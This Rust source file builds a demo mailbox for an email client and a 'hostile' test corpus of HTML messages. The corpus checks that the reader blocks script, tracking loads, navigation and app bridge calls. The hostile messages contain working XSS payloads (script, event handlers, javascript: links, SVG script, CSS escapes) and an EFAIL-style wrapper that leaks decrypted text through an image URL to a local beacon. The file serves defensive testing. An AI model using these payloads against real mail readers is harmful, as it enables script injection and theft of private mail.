//! A demo mailbox that reads like a real one: a few people, conversations,
//! a newsletter with tracking images, an invoice with a PDF, a photo shown
//! inline, non-ASCII names and subjects, spread over INBOX, an archive and
//! Sent. Used by `coffer-demo-server` (the app's "Try the demo") and the
//! app's end-to-end tests.

use crate::{DOMAIN, USER};

/// One demo message: where it goes, its bytes, flags and INTERNALDATE.
#[derive(Debug, Clone)]
pub struct DemoMessage {
    /// The folder.
    pub folder: &'static str,
    /// RFC 5322 bytes.
    pub bytes: Vec<u8>,
    /// IMAP flags.
    pub flags: &'static [&'static str],
    /// IMAP INTERNALDATE (`01-Feb-2024 10:00:00 +0000`).
    pub internaldate: String,
}

/// The folders the demo creates besides INBOX.
pub const FOLDERS: [&str; 2] = ["Archive/2024", "Sent"];

const PEOPLE: [(&str, &str); 6] = [
    ("Maria Keller", "maria.keller"),
    ("Jonas Berg", "jonas"),
    ("Amélie Durand", "amelie"),
    ("山田 太郎", "yamada"),
    ("Priya Natarajan", "priya"),
    ("Tom O'Brien", "tom.obrien"),
];

const TALK: [(&str, &str); 8] = [
    (
        "Quarterly budget review",
        "Here are the figures for the third quarter. Travel is over budget by 12%, \
      software under by 8%. Can we go through the budget on Thursday?",
    ),
    (
        "Lease renewal for the office",
        "The landlord sent the new lease. The rent goes up 4% from March; \
      the break clause moves to 24 months. I have marked the changes.",
    ),
    (
        "Flight to Lisbon",
        "I booked the 07:40 flight on the 14th, seat 12C. The hotel is near the conference \
      centre, ten minutes on foot.",
    ),
    (
        "Draft contract for Berg & Partner",
        "Attached is the draft. Clause 7 (liability) still needs your \
      review; their lawyer wants a cap at the contract value.",
    ),
    (
        "Réunion de lundi",
        "Bonjour, la réunion de lundi est déplacée à 14 h. Merci de confirmer votre présence.",
    ),
    (
        "会議の予定",
        "来週の会議は火曜日の午後三時からです。資料は前日までに送ります。",
    ),
    (
        "Recommendation letter",
        "Happy to write the letter. Send me the job description and your CV, and the \
      deadline, and I will have it done this week.",
    ),
    (
        "Server maintenance on Saturday",
        "The mail server will be down from 22:00 to 23:30 on Saturday for \
      updates. Nothing is lost; mail queues and arrives afterwards.",
    ),
];

fn address(login: &str) -> String {
    format!("{login}@example.org")
}

fn date(day: u32, hour: u32) -> (String, String) {
    let month = ["Jan", "Feb", "Mar"][(day / 28 % 3) as usize];
    let d = day % 28 + 1;
    (
        format!(
            "{d:02} {month} 2024 {hour:02}:{:02}:00 +0000",
            (day * 7) % 60
        ),
        format!(
            "{d:02}-{month}-2024 {hour:02}:{:02}:00 +0000",
            (day * 7) % 60
        ),
    )
}

fn encoded_name(name: &str) -> String {
    if name.is_ascii() {
        format!("\"{name}\"")
    } else {
        use base64::Engine as _;
        format!(
            "=?UTF-8?B?{}?=",
            base64::engine::general_purpose::STANDARD.encode(name)
        )
    }
}

fn encoded_subject(subject: &str) -> String {
    if subject.is_ascii() {
        subject.to_owned()
    } else {
        encoded_name(subject)
    }
}

#[allow(clippy::too_many_arguments)]
fn plain(
    n: usize,
    from: (&str, &str),
    to: &str,
    subject: &str,
    body: &str,
    day: u32,
    reply_to: Option<usize>,
) -> (Vec<u8>, String) {
    let (header_date, internal) = date(day, 8 + (n as u32 % 10));
    let mut h = format!(
        "From: {} <{}>\r\nTo: {to}\r\nSubject: {}\r\nDate: {header_date}\r\n\
         Message-ID: <demo{n}@example.org>\r\nMIME-Version: 1.0\r\n",
        encoded_name(from.0),
        address(from.1),
        encoded_subject(subject),
    );
    if let Some(parent) = reply_to {
        h.push_str(&format!(
            "In-Reply-To: <demo{parent}@example.org>\r\nReferences: <demo{parent}@example.org>\r\n"
        ));
    }
    h.push_str(
        "Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n",
    );
    h.push_str(&body.replace('\n', "\r\n"));
    h.push_str(&format!("\r\n\r\n-- \r\n{}\r\n", from.0));
    (h.into_bytes(), internal)
}

fn newsletter(n: usize, day: u32) -> (Vec<u8>, String) {
    let (header_date, internal) = date(day, 6);
    let html = "<html><head><style>@import url(https://tracker.example.net/s.css);</style></head>\
        <body><h1 style=\"color:#1f3a5f\">Coffer Weekly</h1>\
        <img src=\"https://tracker.example.net/open.gif?u=alice\" width=1 height=1>\
        <p>Three ways to keep your inbox private this winter.</p>\
        <p><a href=\"https://news.example.net/read?id=42\">Read the article</a> or \
        <a href=\"https://news.example.net/unsubscribe\">unsubscribe</a>.</p>\
        <img src=\"https://cdn.example.net/banner.png\" alt=\"banner\"></body></html>";
    let bytes = format!(
        "From: Coffer Weekly <news@example.net>\r\nTo: {USER}@{DOMAIN}\r\nSubject: Your weekly privacy digest\r\n\
         Date: {header_date}\r\nMessage-ID: <demo{n}@example.net>\r\nMIME-Version: 1.0\r\n\
         Content-Type: multipart/alternative; boundary=\"alt\"\r\n\r\n\
         --alt\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n\
         Three ways to keep your inbox private this winter.\r\nRead: https://news.example.net/read?id=42\r\n\
         --alt\r\nContent-Type: text/html; charset=utf-8\r\n\r\n{html}\r\n--alt--\r\n"
    );
    (bytes.into_bytes(), internal)
}

fn invoice(n: usize, day: u32) -> (Vec<u8>, String) {
    let (header_date, internal) = date(day, 9);
    let pdf = "JVBERi0xLjQKJcOkw7zDtsOfCjEgMCBvYmoKPDwvVHlwZS9DYXRhbG9nPj4KZW5kb2JqCnRyYWlsZXIKPDw+PgolJUVPRgo=";
    let bytes = format!(
        "From: Billing <billing@example.com>\r\nTo: {USER}@{DOMAIN}\r\nSubject: Invoice 2024-0117\r\n\
         Date: {header_date}\r\nMessage-ID: <demo{n}@example.com>\r\nMIME-Version: 1.0\r\n\
         Content-Type: multipart/mixed; boundary=\"mix\"\r\n\r\n\
         --mix\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n\
         Dear customer,\r\n\r\nplease find invoice 2024-0117 over EUR 1,240.00 attached. Payment is due \
         within 30 days.\r\n\r\nKind regards,\r\nBilling\r\n\
         --mix\r\nContent-Type: application/pdf; name=\"invoice-2024-0117.pdf\"\r\n\
         Content-Disposition: attachment; filename=\"invoice-2024-0117.pdf\"\r\n\
         Content-Transfer-Encoding: base64\r\n\r\n{pdf}\r\n--mix--\r\n"
    );
    (bytes.into_bytes(), internal)
}

fn photo(n: usize, day: u32) -> (Vec<u8>, String) {
    let (header_date, internal) = date(day, 19);
    // A 1x1 PNG, shown inline from the message itself.
    let png = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==";
    let bytes = format!(
        "From: \"Jonas Berg\" <jonas@example.org>\r\nTo: {USER}@{DOMAIN}\r\nSubject: Photos from the hike\r\n\
         Date: {header_date}\r\nMessage-ID: <demo{n}@example.org>\r\nMIME-Version: 1.0\r\n\
         Content-Type: multipart/related; boundary=\"rel\"\r\n\r\n\
         --rel\r\nContent-Type: text/html; charset=utf-8\r\n\r\n\
         <p>The view from the top:</p><p><img src=\"cid:summit@example.org\" alt=\"summit\" width=\"200\"></p>\
         <p>Next time the northern ridge?</p>\r\n\
         --rel\r\nContent-Type: image/png\r\nContent-ID: <summit@example.org>\r\n\
         Content-Disposition: inline; filename=\"summit.png\"\r\nContent-Transfer-Encoding: base64\r\n\r\n\
         {png}\r\n--rel--\r\n"
    );
    (bytes.into_bytes(), internal)
}

/// The demo mailbox: 52 messages (36 in INBOX and the archive, 16 in Sent).
pub fn messages() -> Vec<DemoMessage> {
    let me = format!("Alice <{USER}@{DOMAIN}>");
    let mut out = Vec::new();
    let mut n = 0;
    let push = |out: &mut Vec<DemoMessage>, folder, (bytes, internaldate), flags| {
        out.push(DemoMessage {
            folder,
            bytes,
            flags,
            internaldate,
        });
    };
    for round in 0..4u32 {
        for (t, (subject, body)) in TALK.iter().enumerate() {
            n += 1;
            let person = PEOPLE[(t + round as usize) % PEOPLE.len()];
            let day = round * 20 + t as u32 * 2;
            let folder = if round < 2 { "Archive/2024" } else { "INBOX" };
            let flags: &'static [&'static str] = match (round, t % 3) {
                (3, 0) => &[],
                (_, 1) => &["\\Seen", "\\Flagged"],
                _ => &["\\Seen"],
            };
            let first = n;
            push(
                &mut out,
                folder,
                plain(n, person, &me, subject, body, day, None),
                flags,
            );
            if t % 2 == 0 {
                n += 1;
                let reply = format!(
                    "Thanks, that works for me.\n\n> {}",
                    body.replace('\n', "\n> ")
                );
                push(
                    &mut out,
                    "Sent",
                    plain(
                        n,
                        ("Alice", USER),
                        &address(person.1),
                        &format!("Re: {subject}"),
                        &reply,
                        day + 1,
                        Some(first),
                    ),
                    &["\\Seen"],
                );
            }
        }
    }
    n += 1;
    push(&mut out, "INBOX", newsletter(n, 75), &[]);
    n += 1;
    push(&mut out, "INBOX", invoice(n, 76), &[]);
    n += 1;
    push(&mut out, "INBOX", photo(n, 77), &[]);
    n += 1;
    push(
        &mut out,
        "INBOX",
        plain(
            n,
            PEOPLE[0],
            &me,
            "Welcome to Coffer",
            "This mailbox is a demo on your own computer. Seal it, then search for \"budget\" \
             or open the newsletter to see its tracking images blocked.",
            78,
            None,
        ),
        &[],
    );
    out
}

/// The folder the hostile corpus goes into.
pub const HOSTILE_FOLDER: &str = "Hostile";

fn html_message(n: usize, subject: &str, html: &str) -> Vec<u8> {
    format!(
        "From: Mallory <mallory@example.net>\r\nTo: {USER}@{DOMAIN}\r\nSubject: {subject}\r\n\
         Date: Fri, 01 Mar 2024 10:{n:02}:00 +0000\r\nMessage-ID: <hostile{n}@example.net>\r\n\
         MIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n{html}\r\n"
    )
    .into_bytes()
}

/// Messages built to make a mail reader run script, load something from
/// `beacon` (an `http://127.0.0.1:PORT` that counts requests), navigate, or
/// reach the app: every class the reader must block. Each subject starts
/// with `hostile`.
pub fn hostile(beacon: &str) -> Vec<DemoMessage> {
    let b = beacon.trim_end_matches('/');
    let pages: Vec<(&str, String)> = vec![
        (
            "hostile script and handlers",
            format!(
                "<script>document.documentElement.setAttribute('data-pwned','script');\
             fetch('{b}/script');new Image().src='{b}/script-img';\
             try{{window.parent.__TAURI_INTERNALS__.invoke('lock')}}catch(e){{}}\
             try{{window.top.__TAURI_INTERNALS__.invoke('lock_and_stop')}}catch(e){{}}</script>\
             <p onclick=\"fetch('{b}/onclick')\">Click me</p>\
             <img src=x onerror=\"document.documentElement.setAttribute('data-pwned','onerror');fetch('{b}/onerror')\">\
             <body onload=\"fetch('{b}/onload')\"><div onmouseover=\"fetch('{b}/hover')\">hover</div>\
             <details open ontoggle=\"fetch('{b}/toggle')\">x</details>"
            ),
        ),
        (
            "hostile remote images",
            format!(
                "<p>Tracking pixels:</p><img src=\"{b}/pixel.gif\" width=1 height=1>\
             <img srcset=\"{b}/srcset.png 2x\"><picture><source srcset=\"{b}/source.webp\"><img src=\"{b}/picture.png\"></picture>\
             <table background=\"{b}/table-bg.png\"><tr><td background=\"{b}/td-bg.png\">cell</td></tr></table>\
             <video poster=\"{b}/poster.png\" src=\"{b}/video.mp4\"></video><audio src=\"{b}/audio.mp3\"></audio>\
             <input type=image src=\"{b}/input.png\">"
            ),
        ),
        (
            "hostile css",
            format!(
                "<style>@import url('{b}/import.css');@import '{b}/import2.css';\
             body{{background:url({b}/bg.png)}}\
             @font-face{{font-family:x;src:url({b}/font.woff)}}p{{font-family:x}}\
             div{{background-image:image-set('{b}/set.png' 1x)}}</style>\
             <p style=\"background:url('{b}/inline-style.png')\">styled</p>\
             <p style=\"background:u\\72l({b}/escaped.png)\">escaped</p>\
             <p style=\"list-style-image:url({b}/list.png)\">list</p>"
            ),
        ),
        (
            "hostile links and prefetch",
            format!(
                "<link rel=stylesheet href=\"{b}/link.css\"><link rel=prefetch href=\"{b}/prefetch\">\
             <link rel=preconnect href=\"{b}/preconnect\"><link rel=dns-prefetch href=\"{b}/dns\">\
             <link rel=preload as=image href=\"{b}/preload.png\"><link rel=icon href=\"{b}/icon.png\">\
             <p>Prefetching</p>"
            ),
        ),
        (
            "hostile meta refresh",
            format!("<meta http-equiv=\"refresh\" content=\"0;url={b}/refresh\"><p>Refreshing</p>"),
        ),
        (
            "hostile frames and objects",
            format!(
                "<iframe src=\"{b}/iframe\"></iframe><iframe srcdoc=\"<img src={b}/srcdoc.png>\"></iframe>\
             <frameset><frame src=\"{b}/frame\"></frameset>\
             <object data=\"{b}/object\"></object><embed src=\"{b}/embed\"><applet code=x codebase=\"{b}/applet\"></applet>\
             <portal src=\"{b}/portal\"></portal><p>Frames</p>"
            ),
        ),
        (
            "hostile navigation",
            format!(
                "<a id=js href=\"javascript:fetch('{b}/javascript')\">javascript link</a> \
             <a id=data href=\"data:text/html,<script>fetch('{b}/data')</script>\">data link</a> \
             <a id=web href=\"{b}/clicked\">Your bank: https://bank.example/</a> \
             <form action=\"{b}/form\" method=post><input name=q value=secret><button id=submit>Send</button></form>\
             <form id=auto action=\"{b}/autoform\"></form>\
             <a href=\"{b}/target\" target=_top>top</a>"
            ),
        ),
        (
            "hostile svg",
            format!(
                "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"fetch('{b}/svg-onload')\">\
             <script>fetch('{b}/svg-script')</script><image href=\"{b}/svg-image.png\"/>\
             <use href=\"{b}/sprite.svg#a\"/><a href=\"javascript:fetch('{b}/svg-a')\"><text y=20>svg</text></a>\
             <foreignObject><img src=\"{b}/svg-foreign.png\"></foreignObject></svg>\
             <img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='{b}/svg-data.png'/></svg>\">\
             <math><mtext><img src=\"{b}/mathml.png\"></mtext></math>"
            ),
        ),
        (
            "hostile base href",
            format!(
                "<base href=\"{b}/base/\"><img src=\"relative.png\"><a href=\"relative-link\">relative</a>\
             <p>Base</p>"
            ),
        ),
    ];
    let mut out: Vec<DemoMessage> = pages
        .into_iter()
        .enumerate()
        .map(|(i, (subject, html))| DemoMessage {
            folder: HOSTILE_FOLDER,
            bytes: html_message(i + 1, subject, &html),
            flags: &[],
            internaldate: format!("01-Mar-2024 10:{:02}:00 +0000", i + 1),
        })
        .collect();
    // EFAIL's direct exfiltration: an HTML part opens an attribute, an
    // encrypted part follows, a last HTML part closes it, hoping a reader
    // joins them so the decrypted text becomes part of a URL.
    let efail = format!(
        "From: Mallory <mallory@example.net>\r\nTo: {USER}@{DOMAIN}\r\nSubject: hostile efail wrapping\r\n\
         Date: Fri, 01 Mar 2024 11:00:00 +0000\r\nMessage-ID: <hostile-efail@example.net>\r\nMIME-Version: 1.0\r\n\
         Content-Type: multipart/mixed; boundary=\"BOUNDARY\"\r\n\r\n\
         --BOUNDARY\r\nContent-Type: text/html\r\n\r\n<img src=\"{b}/efail?secret=\r\n\
         --BOUNDARY\r\nContent-Type: application/pkcs7-mime; smime-type=enveloped-data\r\n\
         Content-Transfer-Encoding: base64\r\n\r\nTUlNRS1FTkNSWVBURUQtU0VDUkVU\r\n\
         --BOUNDARY\r\nContent-Type: text/html\r\n\r\n\">\r\n--BOUNDARY--\r\n"
    );
    out.push(DemoMessage {
        folder: HOSTILE_FOLDER,
        bytes: efail.into_bytes(),
        flags: &[],
        internaldate: "01-Mar-2024 11:00:00 +0000".into(),
    });
    out
}
